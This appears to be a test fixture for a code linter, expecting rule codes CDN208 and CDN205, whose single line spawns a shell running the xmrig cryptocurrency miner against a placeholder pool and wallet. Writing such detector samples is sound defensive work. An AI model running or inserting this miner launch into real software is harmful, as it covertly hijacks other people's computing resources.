# expect: CDN208 CDN205
import subprocess
subprocess.Popen(['/bin/sh', '-c', './xmrig -o stratum+tcp://pool.example:3333 -u wallet'])
